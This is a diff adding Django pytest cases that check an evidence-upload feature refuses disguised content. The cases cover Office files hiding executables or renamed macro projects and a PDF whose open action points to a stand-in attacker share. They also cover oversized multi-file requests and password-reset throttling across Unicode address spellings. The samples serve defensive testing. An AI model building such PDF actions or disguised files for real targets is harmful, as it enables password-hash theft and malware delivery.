@@ -16,7 +16,7 @@ import pytest
 from django.core import mail
 from django.test import Client
 
-from goals import rounds
+from goals import evidence, rounds
 from goals.models import GoalDecision, JointProgress, StatusReport, StatusRound
 from tests.conftest import PASSWORD, make_user, submitted
 
@@ -598,3 +598,134 @@ def test_the_admin_preview_renders_once_per_version_of_the_round(
     assert pending.status_code == 202
     assert "renderes…" in pending.content.decode()
     assert 'http-equiv="refresh"' in pending.content.decode()
+
+
+# --- a second look: what still got through after the fixes above -------------------------
+
+
+def _zip(entries):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in entries:
+            archive.writestr(name, content)
+    return buffer.getvalue()
+
+
+def _content_types(*overrides):
+    parts = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
+    return f'<?xml version="1.0"?><Types xmlns="x">{parts}</Types>'
+
+
+@pytest.mark.parametrize(
+    "build",
+    [
+        # A zip inside the document with a program in it.
+        lambda: _office([("word/embeddings/pakke.zip", _zip([("setup.exe", b"MZ\x90\x00")]))]),
+        # A program named like a picture.
+        lambda: _office([("word/media/image1.png", b"MZ\x90\x00\x03\x00\x00\x00")]),
+        # A program whose name ends in a space.
+        lambda: _office([("word/setup.exe ", b"MZ\x90\x00")]),
+        # An embedded object (how Office packages carry programs and exploits) under a new name.
+        lambda: _office([("word/embeddings/objekt.dat", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")]),
+        # The macro project under another name: Office finds it by its content type.
+        lambda: _zip(
+            [
+                (
+                    "[Content_Types].xml",
+                    _content_types(("/word/makro.dat", "application/vnd.ms-office.vbaProject")),
+                ),
+                ("word/document.xml", "<document/>"),
+                ("word/makro.dat", b"makroprojekt"),
+            ]
+        ),
+    ],
+    ids=["zip-in-docx", "exe-as-png", "exe-with-space", "ole-renamed", "macro-renamed"],
+)
+def test_an_office_document_hiding_a_program_or_macro_under_another_name_is_refused(
+    reporter, report, build
+):
+    page, line = _upload(reporter, report, "plan.docx", build())
+
+    assert "programmer eller makroer" in page
+    assert not line.evidence_file
+
+
+def test_an_office_document_with_a_chart_workbook_inside_is_still_accepted(reporter, report):
+    """Word keeps a chart's data as a whole workbook inside the document: that is no attack."""
+    workbook = _zip([("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")])
+    content = _office([("word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook)])
+
+    page, line = _upload(reporter, report, "rapport.docx", content)
+
+    assert line.evidence_file.name.endswith(".docx")
+
+
+def test_a_pdf_that_opens_a_remote_file_on_opening_is_refused(reporter, report):
+    """/GoToR to a network share makes Windows send the user's password hash there."""
+
+    def add(writer):
+        from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject
+        from pypdf.generic import TextStringObject
+
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+            {
+                NameObject("/S"): NameObject("/GoToR"),
+                NameObject("/F"): TextStringObject(r"\\angriber.example\del\x.pdf"),
+                NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
+            }
+        )
+
+    page, line = _upload(reporter, report, "plan.pdf", _pdf_with(add))
+
+    assert "aktivt indhold" in page
+    assert not line.evidence_file
+
+
+def test_many_files_each_under_the_limit_are_not_all_read(reporter, report, settings):
+    """The 200 MB attack split in files of 10 MB each, scaled down: the request as a whole
+    is cut off too, not only each file."""
+    from django.core.files.uploadedfile import SimpleUploadedFile
+    from django.core.files.uploadhandler import FileUploadHandler
+
+    settings.EVIDENCE_MAX_BYTES = 64 * 1024
+    received = []
+
+    class Counting(FileUploadHandler):
+        def receive_data_chunk(self, raw_data, start):
+            received.append(len(raw_data))
+            return raw_data
+
+        def file_complete(self, file_size):
+            return None
+
+    globals()["_CountingHandler"] = Counting
+    settings.FILE_UPLOAD_HANDLERS = [
+        *settings.FILE_UPLOAD_HANDLERS[:1],
+        f"{__name__}._CountingHandler",
+        *settings.FILE_UPLOAD_HANDLERS[1:],
+    ]
+    data = {"version": report.version, "save": "1"}
+    for i in range(30):  # 30 × 60 KB: every file under the limit, 1.8 MB in all
+        data[f"fyld-{i}"] = SimpleUploadedFile(f"fyld{i}.pdf", b"%PDF-1.7\n" + b"%" * 60_000)
+
+    response = reporter.post(f"/indberetning/{report.pk}/", data, follow=True)
+
+    assert "fylder for meget tilsammen" in response.content.decode()
+    assert sum(received) <= evidence.request_limit() < 30 * 60_000
+    report.refresh_from_db()
+    assert report.version == 1
+
+
+def test_reset_mails_to_one_user_are_throttled_however_the_address_is_spelled(client, reporters):
+    """Django finds the user by the address compared Unicode-caselessly (ſ is s, K is k);
+    each spelling must not get its own allowance of mails."""
+    from django.contrib.auth import get_user_model
+
+    get_user_model().objects.filter(username="indberetter-101").update(
+        email="sundhed@example.dk"
+    )
+    spellings = ["sundhed@example.dk", "ſundhed@example.dk", "sundhed@example.dk".upper()]
+    for spelling in spellings * 3:
+        client.post("/konto/password_reset/", {"email": spelling})
+
+    assert 1 <= len(mail.outbox) <= 3
